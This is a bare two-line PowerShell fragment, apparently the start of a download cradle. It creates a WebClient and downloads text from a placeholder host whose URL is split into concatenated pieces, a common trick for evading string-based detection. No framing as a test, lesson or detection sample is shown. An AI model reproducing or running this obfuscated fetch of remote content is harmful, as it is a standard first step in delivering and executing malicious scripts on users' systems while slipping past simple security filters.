$wc = New-Object System.Net.WebClient
$wc.DownloadString('http://a.ex'+'ample/p'+'/x.txt')
